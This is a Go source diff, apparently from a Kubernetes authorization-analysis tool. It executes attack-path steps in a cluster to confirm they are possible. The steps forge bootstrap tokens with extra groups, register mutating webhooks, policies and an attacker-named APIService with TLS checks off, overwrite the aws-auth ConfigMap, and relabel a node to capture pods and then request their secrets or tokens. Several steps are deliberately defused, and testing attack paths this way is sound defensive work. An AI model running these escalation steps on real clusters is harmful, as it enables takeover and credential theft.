@@ -1,0 +1,141 @@
+package attackpaths
+
+import (
+	"context"
+	"fmt"
+	"net/http"
+	"strings"
+
+	corev1 "k8s.io/api/core/v1"
+
+	"github.com/node-authorizer/node-authorizer/attackpaths"
+)
+
+// Steps that are possible only. They end where something else decides.
+
+// bootstrapToken authenticates with a token from a secret, or from one that it makes.
+func (e *executor) bootstrapToken(ctx context.Context, s step) error {
+	data := e.secrets[s.From]
+	if s.From.Kind != attackpaths.Secret {
+		data = map[string][]byte{
+			"token-id": []byte("123456"), "token-secret": []byte("0123456789abcdef"), "usage-bootstrap-authentication": []byte("true"),
+		}
+		if s.To.Name != "system:bootstrappers" {
+			data["auth-extra-groups"] = []byte(s.To.Name)
+		}
+		secret := map[string]any{
+			"metadata": map[string]any{"name": "bootstrap-token-123456"}, "type": string(corev1.SecretTypeBootstrapToken), "data": data,
+		}
+		made, _ := first(e.acting(s), func(a *actor) answer { return a.post(ctx, secrets.in("kube-system"), secret) })
+		if err := made.failure(); err != nil && made.status != http.StatusConflict {
+			return err
+		}
+	}
+	token := fmt.Sprintf("%s.%s", data["token-id"], data["token-secret"])
+	return until(ctx, "the API server knows the token", func(ctx context.Context) error { return e.ownToken(ctx, s.To, token) })
+}
+
+// admissionControl configures a webhook, or a policy with its binding. It ends before an object
+// comes by.
+func (e *executor) admissionControl(ctx context.Context, s step) error {
+	actors := e.acting(s)
+	if _, ok := strings.CutPrefix(s.Because, "may create a mutating admission policy"); ok {
+		made, _ := first(actors, func(a *actor) answer { return a.post(ctx, mutatingPolicies.in(""), mutatingPolicy()) })
+		if err := made.failure(); err != nil {
+			return err
+		}
+		made, _ = first(actors, func(a *actor) answer { return a.post(ctx, mutatingBindings.in(""), mutatingBinding()) })
+		return made.failure()
+	}
+	made, _ := first(actors, func(a *actor) answer { return a.post(ctx, mutatingWebhooks.in(""), mutatingWebhook()) })
+	return made.failure()
+}
+
+// nowhere selects no namespace, so that what the attacker configures changes nothing here.
+var nowhere = map[string]any{"matchLabels": map[string]any{"kubernetes.io/metadata.name": "nowhere"}}
+
+func mutatingWebhook() map[string]any {
+	return map[string]any{"metadata": map[string]any{"name": "made"}, "webhooks": []any{map[string]any{
+		"name": "made.example.com", "admissionReviewVersions": []string{"v1"}, "sideEffects": "None", "failurePolicy": "Ignore",
+		"clientConfig": map[string]any{"url": "https://127.0.0.1:1"}, "namespaceSelector": nowhere,
+		"rules": []any{map[string]any{
+			"operations": []string{"CREATE"}, "apiGroups": []string{""}, "apiVersions": []string{"v1"}, "resources": []string{"pods"},
+		}},
+	}}}
+}
+
+func mutatingPolicy() map[string]any {
+	return map[string]any{"metadata": map[string]any{"name": "made"}, "spec": map[string]any{
+		"reinvocationPolicy": "Never",
+		"matchConstraints": map[string]any{"namespaceSelector": nowhere, "resourceRules": []any{map[string]any{
+			"operations": []string{"CREATE"}, "apiGroups": []string{""}, "apiVersions": []string{"v1"}, "resources": []string{"pods"},
+		}}},
+		"mutations": []any{map[string]any{"patchType": "JSONPatch", "jsonPatch": map[string]any{"expression": `[JSONPatch{op: "test", path: "/spec", value: object.spec}]`}}},
+	}}
+}
+
+func mutatingBinding() map[string]any {
+	return map[string]any{"metadata": map[string]any{"name": "made"}, "spec": map[string]any{"policyName": "made"}}
+}
+
+// apiService registers an API server. It ends before requests of others come by.
+func (e *executor) apiService(ctx context.Context, s step) error {
+	made, _ := first(e.acting(s), func(a *actor) answer { return a.post(ctx, apiServices.in(""), attackerAPI()) })
+	return made.failure()
+}
+
+func attackerAPI() map[string]any {
+	return map[string]any{"metadata": map[string]any{"name": "v1.attacker.example.com"}, "spec": map[string]any{
+		"group": "attacker.example.com", "version": "v1", "groupPriorityMinimum": 1, "versionPriority": 1,
+		"insecureSkipTLSVerify": true, "service": map[string]any{"namespace": "default", "name": "attacker"},
+	}}
+}
+
+// nodeIdentityConfig writes the mappings of identities. It ends there: no part of this cluster
+// reads them.
+func (e *executor) nodeIdentityConfig(ctx context.Context, s step) error {
+	mappings := map[string]any{"metadata": map[string]any{"name": "aws-auth"}, "data": map[string]any{"mapUsers": "[]"}}
+	made, _ := first(e.acting(s), func(a *actor) answer {
+		if created := a.post(ctx, configMaps.in("kube-system"), mappings); created.ok() {
+			return created
+		}
+		return replace(ctx, a, configMaps.at("kube-system", "aws-auth"), mappings, mappings)
+	})
+	return made.failure()
+}
+
+// stealPods gives the node the labels that pods select, and waits until the scheduler binds
+// one to it.
+func (e *executor) stealPods(ctx context.Context, s step) error {
+	a := e.actor(s.From)
+	if a == nil {
+		return errNoActor
+	}
+	for i := range e.pods {
+		p := &e.pods[i]
+		if p.Spec.NodeName != "" || p.Namespace != s.To.Namespace {
+			continue
+		}
+		labels := map[string]any{"metadata": map[string]any{"labels": p.Spec.NodeSelector}}
+		if err := a.patch(ctx, nodes.at("", s.From.Name), strategicPatch, labels).failure(); err != nil {
+			return err
+		}
+		err := until(ctx, "the scheduler binds the pod to the node", func(ctx context.Context) error {
+			if err := e.admin.get(ctx, pods.at(p.Namespace, p.Name)).into(p); err != nil {
+				return err
+			}
+			if p.Spec.NodeName != s.From.Name {
+				return fmt.Errorf("it is bound to %q", p.Spec.NodeName)
+			}
+			return nil
+		})
+		if err != nil {
+			return err
+		}
+		if s.To.Kind == attackpaths.Secret {
+			return e.requestSecret(ctx, s.To, p.Spec.NodeName)
+		}
+		return e.requestToken(ctx, s.To, p)
+	}
+	return fmt.Errorf("no pod waits for a node")
+}
